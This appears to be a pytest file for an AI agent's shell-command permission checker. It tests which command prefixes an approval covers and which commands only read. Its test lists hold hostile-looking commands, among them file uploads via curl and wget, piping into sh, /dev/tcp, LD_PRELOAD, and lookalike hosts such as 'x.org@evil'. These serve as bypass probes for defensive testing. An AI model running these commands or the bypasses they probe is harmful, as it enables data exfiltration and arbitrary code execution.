"""Tests of prefixes: what an answer for the session covers, and which commands only read."""

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from goose_like.workspace.permissions.prefixes import is_covered, list_prefixes, only_reads


@pytest.mark.parametrize(
    ("line", "prefixes"),
    [
        ("git push", "git push"),
        ("git push -f", "git push -f"),
        ("git push origin +main", "git push origin +main"),
        ("git log --oneline -5", "git log"),
        ("git log --output=x", "git log --output=x"),
        ("git stash list", "git stash list"),
        ("git stash", ""),
        ("gh pr view 1", "gh pr view"),
        ("npm run build --x", "npm run build --x"),
        ("npm run build", "npm run build"),
        ("python -m pytest -q", "python -m pytest"),
        ("python x.py", "python x.py"),
        ("cd x && npm test | tail -3", "cd x, npm test, tail"),
        ("cd /x && npm test", ""),
        ("cd ../x && npm test", ""),
        ("curl -s x", ""),
        ("curl -s https://x.org/a?b=c", "curl https://x.org/"),
        ("curl https://x.org:8443", "curl https://x.org:8443/"),
        ("curl https://x.org/a https://y.org/b", ""),
        ("curl https://ann@x.org/a", ""),
        ("curl -L https://x.org/", ""),
        ("curl -o x https://x.org/", ""),
        ("wget -q https://x.org/a", "wget https://x.org/"),
        ("git push origin main", "git push origin"),
        ("pip install x", "pip install x"),
        ("make build A=x", "make build A=x"),
        ("env -C x make build", ""),
        ("timeout 5 make check", "make check"),
        ("sh -c 'npm test'", "npm test"),
        ("for i in a b; do ls $i; done", "ls"),
        ("find . -name '*.py'", "find ."),
        ("find . -delete", "find . -delete"),
        ("sort -o w1 x", "sort -o w1"),
        ("sort -k2 x", "sort"),
        ("tar tf x.tar", "tar tf"),
        ("tar -tf x.tar", ""),
        ("rm -rf build", "rm -rf build"),
        ("git show $(cat x)", ""),
        ("cat $(cat x)", "cat, cat x"),
        ("ls | tee x", ""),
        ("awk {print} x", ""),
        ("git -C x push", ""),
        ("git", ""),
        ("npm run $x", ""),
        ("python -c x", ""),
        ("python", ""),
        ("bash -c $x", ""),
        ("sed -n 1p x", ""),
        ("ls > x", ""),
        ("PATH=. ls", ""),
        ("$x", ""),
        ("'a b'", ""),
        ("l{s,x}", ""),
        ("'*' x", ""),
        ("tool:x", ""),
        (" && ".join(f"program{number}" for number in range(19)), ""),
        ("echo hi", "echo hi"),
        ("echo hi; ls", "ls"),
        ("env", "env"),
    ],
)
def test_a_prefix_names_a_program_and_its_subcommand_but_no_interpreter(line: str, prefixes: str) -> None:
    assert ", ".join(list_prefixes(line)) == prefixes


ESCAPES = {
    "find . -name x": [
        "find . -fprint w",
        "find . -name q -delete",
        "find . -exec touch w ';'",
        "find / -name x",
        "find . -name * -o",
    ],
    "git log -1": ["git log --output=w", "git log --outp w", "git log --ext-diff", "git log $x"],
    "git diff": ["git diff --output=w", "git diff --textconv", "git difftool -x touch"],
    "git push -q": ["git push -f", "git push origin +main", "git push origin :main", "git push --mirror"],
    "git branch": ["git branch -D x"],
    "git stash list": ["git stash drop", "git stash clear"],
    "git remote show x": ["git remote add x y", "git remote"],
    "git grep x": ["git grep -Ofirefox x"],
    "gh pr view 1": ["gh pr merge 1"],
    "docker image ls": ["docker image rm x", "docker run -v /:/x y"],
    "sort x": ["sort -o w", "sort --output=w", "sort -uo w", "sort --compress-program=w x", "sort * x"],
    "tar tf x": ["tar xf x", "tar tf x --to-command=w", "tar tf x -I w", "tar tf x --checkpoint-action=exec=w"],
    "xargs ls": ["xargs rm", "xargs -I{} sh -c {}"],
    "rg x": ["rg --pre w x", "rg --pre=w x", "rg --hostname-bin=w x", "rg -z x"],
    "curl -s https://x.org/a": [
        "curl -o w https://x.org/a",
        "curl -sO https://x.org/a",
        "curl -d @f https://x.org/a",
        "curl -T f https://x.org/a",
        "curl -K f",
        "curl -w %output{w} https://x.org/a",
        "curl -s https://y.org/a",
        "curl -s https://x.org/a https://y.org",
        "curl -s https://x.org/a y.org",
        "curl -s https://x.org.evil/a",
        "curl -s https://x.org@evil/a",
        "curl -s 'https://x.org\\@evil/a'",
        "curl -s https://x.org:8080/a",
        "curl -s http://x.org/a",
        "curl -sL https://x.org/a",
        "curl -s -x https://x.org/ evil",
        "curl -s localhost:8080",
        "curl -s $x",
        "curl -s https://{x.org,evil}/a",
        "wget https://x.org/a",
    ],
    "wget https://x.org/a": [
        "wget -O w https://x.org/a",
        "wget --post-file=f https://x.org/",
        "wget -i f",
        "wget y.org",
    ],
    "tree": ["tree -o w", "tree -R -o w"],
    "rm x": ["rm -r x", "rm -rf x", "rm *"],
    "mv x y": ["mv -t z x y"],
    "sed s/a/b/ x": ["sed s/a/b/ -i x", "sed s/a/b/ -e w"],
    "python -m pytest -q": ["python -m pytest -p evil", "python -m pytest --basetemp=x", "python -m pip install x"],
    "make build": [
        "make build 'A=$(shell touch x)'",
        "make build MAKEFILES=x",
        "make build MAKEFLAGS+=x",
        "make build deploy",
        "make build -- A=x",
        "env -C /tmp/x make build",
        "env --chdir=/tmp/x make build",
        "env -iC/tmp/x make build",
        "cd /tmp/x && make build",
        "cd .. && make build",
        "pushd /tmp/x && make build",
        "A=x make build",
    ],
    "gcc x.c": ["gcc @file", "gcc x.c @file", "gcc /elsewhere.c", "gcc ../elsewhere.c", "gcc ~/elsewhere.c"],
    "python -m pytest tests": [
        "python -m pytest /elsewhere.py",
        "python -m pytest tests /elsewhere.py",
        "python -m pytest tests/../../elsewhere.py",
        "python -m pytest ~ann/elsewhere.py",
        "python -m pytest tests/{..,}/../x.py",
        "python -m pytest .[.]/x.py",
        "python -m pytest -- -p=x",
        "python -m pytest file:///x",
    ],
    "npm test": ["npm test -- --require=x.js", "npm test -- --require x.js", "npm test prefix=/x"],
    "pip install x": ["pip install y", "pip install x y", "pip install x@https://y"],
    "npm install x": ["npm install y", "npm install x y"],
    "uv add x": ["uv add y", "uv add x y"],
    "npm run build": ["npm run evil", "npm run build evil"],
    "docker run x": ["docker run y", "docker run x y"],
    "git push": ["git push evil", "git push origin main", "git push https://evil/x"],
    "git push origin": ["git push evil", "git push origin a:b", "git push origin :main", "git push origin +main"],
    "git fetch": ["git fetch evil", "git fetch ann@evil:x", "git fetch /elsewhere"],
    "git clone https://x.org/a": ["git clone https://y.org/a", "git clone https://x.org/a /elsewhere"],
    "ping x.org": ["ping y.org", "ping localhost"],
    "nc x.org 80": ["nc localhost 80", "nc x.org 80 81"],
    "make check": ["make check -f x", "make clean", "make check -C x", "make check --eval=x"],
    "zip a b": ["zip a b -T -TT w"],
    "cat x": ["cat x > w", "cat x | sh"],
}


@pytest.mark.parametrize("line", ESCAPES)
def test_a_prefix_covers_no_option_that_writes_runs_or_deletes(line: str) -> None:
    prefixes = list_prefixes(line)
    assert prefixes
    assert is_covered(line, prefixes)
    assert [escape for escape in ESCAPES[line] if is_covered(escape, prefixes)] == []


@pytest.mark.parametrize(
    ("line", "others"),
    [
        ("git log -1", ["git log", "git log --oneline -5 -- x", "git log -p main..HEAD"]),
        ("git push", ["git push", "git push -q"]),
        ("git push origin main", ["git push origin", "git push -q origin other"][:1]),
        ("curl https://x.org/a", ["curl -s https://x.org", "curl -sS https://x.org/b/c?d=e"]),
        ("make build", ["make build", "make -j4 build"][:1]),
        ("git log -1", ["git log HEAD@{1} -- ../x", "git show HEAD@{1}"][:1]),
        ("find . -name x", ["find . -type f -name y -print", "find . -maxdepth 2 | wc -l; find ."]),
        ("grep -rn x .", ["grep -il $x *"]),
        ("python -m pytest -q", ["python -m pytest -x -k foo tests/a.py", "python -m pytest --lf -vv"]),
        ("npm test", ["npm test", "cd x && npm test"]),
        ("ls -l; git status", ["ls *", "git status --short"]),
    ],
)
def test_a_prefix_covers_other_harmless_uses(line: str, others: list[str]) -> None:
    prefixes = [*list_prefixes(line), "wc", "cd x"]
    assert [other for other in others if not is_covered(other, prefixes)] == []


def test_a_path_in_the_workspace_does_not_lead_elsewhere() -> None:
    root = Path("/w")
    assert list_prefixes("pytest /w/tests/a.py", root) == ["pytest"]
    assert list_prefixes("cd /w/sub && make check", root) == ["cd /w/sub", "make check"]
    assert is_covered("pytest /w/tests/b.py", ["pytest"], root)
    assert not is_covered("pytest /w/../b.py", ["pytest"], root)
    assert not is_covered("pytest /wide/b.py", ["pytest"], root)


READING = (
    "ls",
    "ls -la src",
    "cat a b",
    "cat 'a b'",
    "head -5 x | wc -l",
    "grep -rn 'x y' . | sort -u",
    "pwd; ls",
    "ls && cat x",
    "ls 2>/dev/null",
    "ls > /dev/null 2>&1",
    "cat x 2>&1 | tail -3",
    "find . -name '*.py' -type f",
    "rg -n x src",
    "tree -L",
    "git status",
    "git status --short",
    "git log --oneline -5",
    "git diff",
    "git diff --stat HEAD~1 -- x",
    "git show HEAD@{1}",
    "git branch",
    "git branch -a",
    "git remote -v",
    "git stash list",
    "git blame x",
    "git rev-parse HEAD",
    "cd src && ls",
    "if ls x; then cat x; fi",
    "ls /elsewhere",
    "ls *.py",
    "git tag -l",
    "jq . x.json",
    "! grep x y",
    "(ls)",
)


@pytest.mark.parametrize("line", READING)
def test_a_command_that_only_reads_is_known(line: str) -> None:
    assert only_reads(line, is_at_root=True)


# Each of these may write, run or send something, or cannot be judged.
NOT_READING = (
    "",
    "#",
    "rm x",
    "touch x",
    "./ls",
    "/tmp/ls",
    "bin/ls",
    "l\\\ns",
    "$x",
    "ls $x",
    'ls "$(touch x)"',
    "ls `touch x`",
    "ls $(ls)",
    "cat ${x:=y}",
    "ls > x",
    "ls >> x",
    "ls >| x",
    "ls &> x",
    "ls >& x",
    "ls 2> x",
    "ls 2>x",
    "ls 1>&2 >x",
    "ls <> x",
    "cat < x",
    "cat < /dev/tcp/localhost/80",
    "cat <<E\nx\nE",
    "cat <<< x",
    "cat <(touch x)",
    "ls >(touch x)",
    "ls > /dev/null/../x",
    "ls >/dev/nullx",
    "ls > '/dev/null'x",
    "ls | tee x",
    "ls | xargs rm",
    "ls; rm x",
    "ls\nrm x",
    "ls & rm x",
    "ls || rm x",
    "x=1",
    "x=1 ls",
    "PATH=. ls",
    "LD_PRELOAD=./x.so ls",
    "env ls",
    "env A=1 ls",
    "command ls",
    "exec ls",
    "time ls",
    "nohup ls",
    "sudo ls",
    "sh -c ls",
    "bash -c ls",
    "eval ls",
    ". x",
    "source x",
    "alias ls=rm; ls",
    "ls() { rm x; }; ls",
    "hash -p ./x ls; ls",
    "enable -f ./x ls",
    "export PATH=.",
    "declare x=1",
    "trap 'rm x' EXIT; ls",
    "shopt -s x",
    "set -x; ls",
    "sort -o x y",
    "sort --output=x y",
    "sort -uo x y",
    "sort --compress-program=x y",
    "sort -T . x",
    "sort --files0-from=x",
    "find . -delete",
    "find . -exec rm {} +",
    "find . -execdir x ';'",
    "find . -ok rm {} ';'",
    "find . -fprint x",
    "find . -fls x",
    "find . -fprintf x y",
    "find . -name *",
    "find . $x",
    "sed -n 1p x",
    "sed -i s/a/b/ x",
    "awk '{print}' x",
    "uniq x y",
    "rg --pre x y",
    "rg --pre=x y",
    "rg -z x",
    "rg --hostname-bin=x y",
    "rg x *",
    "tree -o x",
    "tree -R -o x",
    "git",
    "git -c core.pager=x log",
    "git --no-pager log",
    "git -C x status",
    "git --git-dir=x status",
    "git --exec-path=x log",
    "git diff --output x",
    "git diff --output=x",
    "git log --output=x",
    "git show --outp=x",
    "git diff --ext-diff",
    "git log -p --textconv",
    "git diff --no-index a b",
    "git grep -O x",
    "git grep x",
    "git blame --contents x y",
    "git branch x",
    "git branch -D x",
    "git branch -m x",
    "git tag x",
    "git tag -d x",
    "git remote add x y",
    "git remote show x",
    "git stash",
    "git stash drop",
    "git config --get x",
    "git config x y",
    "git commit",
    "git add .",
    "git fetch",
    "git push",
    "git checkout x",
    "git log $x",
    "git rev-parse --parseopt x",
    "git difftool",
    "git reflog expire",
    "git cat-file --textconv x",
    "git st",
    "git 'status -x'",
    "git status; cd x; git status",
    "cd x && git status",
    "cd x y",
    "cd x; ./y",
    "hostname x",
    "date -s x",
    "file -C",
    "xxd x y",
    "less x",
    "more x",
    "man x",
    "vi x",
    "python x.py",
    "python --version",
    "curl https://x.org",
    "wget x",
    "ssh x",
    "nc x 1",
    "dd of=x",
    "truncate -s 0 x",
    "tar tf x",
    "tar -xf x",
    "npm ls",
    "pip list",
    "for PATH in .; do ls; done",
    "for i in 1; do ls; done",
    "git 'log' 'a b' '--output=x'",
    "git branch '-a -D'",
    "git 'stash list'",
    "ls | while read f; do rm $f; done",
    "coproc ls",
    "[[ -v a[$(rm x)] ]] && ls",
    "((x=1))",
    "ls {a,$(rm x)}",
    "ls \x0b",
    "ls \r",
    "function ls { rm x; }",
    "printf -v x y",
    "printf x",
    "test -e x",
    "busybox ls",
    "git\\ status",
    "'git status'",
)


@pytest.mark.parametrize("line", NOT_READING)
def test_a_command_that_is_not_known_to_only_read_is_asked_about(line: str) -> None:
    assert not only_reads(line, is_at_root=True)


def test_git_reads_only_in_the_root() -> None:
    assert not only_reads("git status", is_at_root=False)
    assert only_reads("ls", is_at_root=False)


@given(
    st.lists(
        st.sampled_from(
            ["git", "push", "python", "-c", "x.py", "npm", "run", "ls", "env", ";", "|", "-o", "--", "+x", "find", "gh"]
        ),
        max_size=7,
    )
)
def test_the_prefixes_of_a_line_cover_this_line(words: list[str]) -> None:
    line = " ".join(words)
    if prefixes := list_prefixes(line):
        assert is_covered(line, prefixes)


@pytest.mark.parametrize("count", [50, 20_000])
def test_a_prefix_that_is_too_long_is_not_offered(count: int) -> None:
    line = "git push" + " -x" * count
    assert list_prefixes(line) == []
